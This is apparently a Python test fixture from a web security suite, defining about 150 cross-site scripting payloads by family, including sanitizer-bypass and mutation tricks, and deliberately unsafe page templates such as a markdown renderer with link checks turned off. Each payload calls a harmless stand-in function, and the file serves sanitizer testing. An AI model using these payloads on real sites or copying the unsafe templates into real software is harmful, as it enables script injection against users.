"""A hundred and fifty and more texts that try to run a script where they are shown. Each calls ``ran``, which the page defines.

``CONTEXTS`` says, for each family, in which careless page it does its harm: the tests show there that it would.
"""

import base64
import html
from collections.abc import Callable
from urllib.parse import unquote

from markdown_it import MarkdownIt

CALL = "ran()"
_ENCODED = base64.b64encode(b"<script>parent.ran()</script>").decode()

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>ran()</script>",
        "<SCRIPT>ran()</SCRIPT>",
        "<script\n>ran()</script\n>",
        "<script/x>ran()</script>",
        "<script src=data:,ran()></script>",
        "<script type=module>ran()</script>",
        "<script>ran()//",
        "<<script>ran()//<</script>",
        "<script>window['ran']()</script>ran()",
        "<script src='data:text/javascript,ran()'></script>",
    ),
    "event": (
        "<img src=x onerror=ran()>",
        "<IMG SRC=x ONERROR=ran()>",
        "<img/src=x/onerror=ran()>",
        "<img src=x onerror\n=\nran()>",
        "<img src=x onerror='ran()'>",
        '<img src=x onerror="ran()">',
        "<img src=x onerror=`ran()`>",
        "<img srcset=x onerror=ran()>",
        "<image src=x onerror=ran()>",
        "<body onload=ran()>",
        "<body onpageshow=ran()>",
        "<iframe onload=ran()></iframe>",
        "<details open ontoggle=ran()>x</details>",
        "<input autofocus onfocus=ran()>",
        "<input type=image src=x onerror=ran()>",
        "<select autofocus onfocus=ran()></select>",
        "<textarea autofocus onfocus=ran()></textarea>",
        "<button autofocus onfocus=ran()>x</button>",
        "<video src=x onerror=ran()></video>",
        "<video><source onerror=ran()></video>",
        "<audio src=x onerror=ran()>",
        "<object data=x onerror=ran()></object>",
        "<link rel=stylesheet href=x onerror=ran()>",
        "<style onload=ran()></style>",
        "<script src=x onerror=ran()></script>",
        "<div onmouseover=ran()>x</div>",
        "<div onpointerenter=ran()>x</div>",
        "<p onclick=ran()>x</p>",
        "<x-lamp onclick=ran()>x</x-lamp>",
        "<xss tabindex=1 autofocus onfocus=ran()>x</xss>",
        "<lamp/onmouseover=ran()>x",
        "<b onmouseenter=ran()>x</b>",
        "<form onsubmit=ran()><button>x</button></form>",
        "<dialog open onclick=ran()>x</dialog>",
        "<marquee onstart=ran()>x</marquee>",
        "<video controls oncanplay=ran() onerror=ran() src=x></video>",
    ),
    "svg": (
        "<svg onload=ran()>",
        "<svg/onload=ran()>",
        "<svg><script>ran()</script></svg>",
        "<svg><script>&#114;an()</script></svg>ran()",
        "<svg><script href=data:,ran() /></svg>",
        "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
        "<svg><set onbegin=ran() attributeName=x></svg>",
        "<svg><a href=javascript:ran()><text y=20>x</text></a></svg>",
        "<svg><image href=x onerror=ran()></svg>",
        "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
        "<svg><title><img src=x onerror=ran()></title></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'></svg>",
    ),
    "mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
        "<math><mi><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=ran()>'>",
        "<math href=javascript:ran()>x</math>",
        "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
        "<template><img src=x onerror=ran()></template><img src=x onerror=ran()>",
        "<svg></p><style><a title='</style><img src=x onerror=ran()>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
        "<table><td background=x><img src=x onerror=ran()>",
        "<select><template><img src=x onerror=ran()></template></select><img src=x onerror=ran()>",
        "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
        "<iframe><p title='</iframe><img src=x onerror=ran()>'>",
        "<noembed><p title='</noembed><img src=x onerror=ran()>'>",
    ),
    "frame": (
        "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.ran()&lt;/script&gt;'></iframe>",
        "<iframe src=javascript:parent.ran()></iframe>",
        "<iframe src='java&#10;script:parent.ran()'></iframe>",
        "<object data=javascript:parent.ran()></object>",
        f"<iframe src='data:text/html;base64,{_ENCODED}'></iframe><img src=x onerror=ran()>",
        "<embed src=javascript:ran()><img src=x onerror=ran()>",
        "<frameset onload=ran()></frameset><img src=x onerror=ran()>",
        "<meta http-equiv=refresh content='0;url=javascript:ran()'><img src=x onerror=ran()>",
        "<base href='javascript:ran()//'><a href=#>x</a><img src=x onerror=ran()>",
    ),
    "link": (
        "<a href=javascript:ran()>x</a>",
        "<a href='  javascript:ran()'>x</a>",
        "<a href='JaVaScRiPt:ran()'>x</a>",
        "<a href='java\tscript:ran()'>x</a>",
        "<a href='java\nscript:ran()'>x</a>",
        "<a href='&#106;avascript:ran()'>x</a>",
        "<a href='javascript&colon;ran()'>x</a>",
        "<a href='\x01javascript:ran()'>x</a>",
        "<a href='javascript://%0aran()'>x</a>",
        "<a href=javascript:ran() target=_self>x</a>",
        "<form action=javascript:ran()><input type=submit></form>",
        "<form><button formaction=javascript:ran()>x</button></form>",
        "<map><area href=javascript:ran() shape=default></map>",
    ),
    "address": (
        "javascript:ran()",
        "JAVASCRIPT:ran()",
        " javascript:ran()",
        "java\tscript:ran()",
        "javascript:/*-->*/ran()",
        "javascript://shop.example/%0aran()",
        "\x01javascript:ran()",
        "javascript:void(ran())",
    ),
    "double quotes": (
        '"><script>ran()</script>',
        '"><img src=x onerror=ran()>',
        '" onmouseover=ran() x="',
        '" autofocus onfocus=ran() x="',
        '"onclick=ran()//',
        '"\nonmouseover="ran()',
        '"/><svg onload=ran()>',
        '" onmouseover="ran()" style="position:fixed;inset:0',
    ),
    "single quotes": (
        "'><script>ran()</script>",
        "'><img src=x onerror=ran()>",
        "' onmouseover=ran() x='",
        "' autofocus onfocus=ran() tabindex=1 x='",
        "'onclick='ran()",
    ),
    "no quotes": ("x onmouseover=ran()", "x/onclick=ran()", "x><img src=x onerror=ran()>", "x\x0confocus=ran()\x0cautofocus"),
    "title": ("</title><script>ran()</script>", "</title><img src=x onerror=ran()>", "</TITLE\n><svg onload=ran()>"),
    "textarea": ("</textarea><script>ran()</script>", "</textarea><img src=x onerror=ran()>", "</textarea/><svg onload=ran()>"),
    "style": ("</style><script>ran()</script>", "</style><img src=x onerror=ran()>", "}</style><svg onload=ran()><style>{"),
    "comment": (
        "--><script>ran()</script>",
        "--!><img src=x onerror=ran()>",
        "><img src=x onerror=ran()>-->",
        "--><!--><svg onload=ran()>",
    ),
    "script string": (
        '";ran()//',
        '"-ran()-"',
        "</script><script>ran()</script>",
        "</script><svg onload=ran()>",
        '"}];ran();[{"',
        '\\";ran()//',
    ),
    "encoded": (
        "&lt;script&gt;ran()&lt;/script&gt;",
        "&lt;img src=x onerror=ran()&gt;",
        "&#60;img src=x onerror=ran()&#62;",
        "&#x3c;svg onload=ran()&#x3e;",
        "%3Cscript%3Eran()%3C/script%3E",
        "%3Cimg%20src=x%20onerror=ran()%3E",
    ),
    "markdown": (
        "[x](javascript:ran())",
        "[x](<javascript:ran()>)",
        "[x]( javascript:ran() 'y')",
        "[x][y]\n\n[y]: javascript:ran()",
        "<javascript:ran()>",
        "![x](x\" onerror=\"ran())\n\n<img src=x onerror=ran()>",
        "> <img src=x onerror=ran()>",
        "- <svg onload=ran()>",
        "`</code>`<img src=x onerror=ran()>",
        "| a |\n|---|\n| b |\n\n<img src=x onerror=ran()>",
        "[x](java&#115;cript:ran())",
        "[x](\\javascript:ran())\n\n<svg onload=ran()>",
    ),
    "inert": (
        # What old browsers ran, and template languages run: here it must be no more than text.
        "+ADw-script+AD4-ran()+ADw-/script+AD4-",
        "＜script＞ran()＜/script＞",
        "<scr\x00ipt>ran()</scr\x00ipt>",
        "¼script¾ran()¼/script¾",
        "{{ ran() }}{{ ''.__class__ }}",
        "{% raw %}<script>ran()</script>{% endraw %}",
        "${ran()}",
        "<div style='width:expression(ran())'>x</div>",
        "<div style=\"background:url(javascript:ran())\">x</div>",
        "\u202e<script>ran()</script>",
    ),
}


def _markdown(text: str) -> str:
    careless = MarkdownIt("commonmark", {"html": True})
    careless.validateLink = lambda url: True  # type: ignore[method-assign]
    return str(careless.render(text))


CONTEXTS: dict[str, Callable[[str], str]] = {
    "address": lambda text: f'<a href="{html.escape(text)}">x</a>',
    "double quotes": lambda text: f'<input value="{text}">',
    "single quotes": lambda text: f"<input value='{text}'>",
    "no quotes": lambda text: f"<input value={text}>",
    "title": lambda text: f"<title>{text}</title>",
    "textarea": lambda text: f"<textarea>{text}</textarea>",
    "style": lambda text: f"<style>{text}</style>",
    "comment": lambda text: f"<!--{text}-->",
    "script string": lambda text: f'<script>var said = [{{"a": "{text}"}}]</script>',
    "encoded": lambda text: unquote(html.unescape(text)),
    "markdown": _markdown,
}
"""Families that are not named do their harm wherever HTML is taken as it comes."""

PAYLOADS: tuple[str, ...] = tuple(payload for payloads in FAMILIES.values() for payload in payloads)


def careless_page(family: str, payload: str) -> str:
    """A page that shows ``payload`` as its family hopes for."""
    return CONTEXTS.get(family, str)(payload)
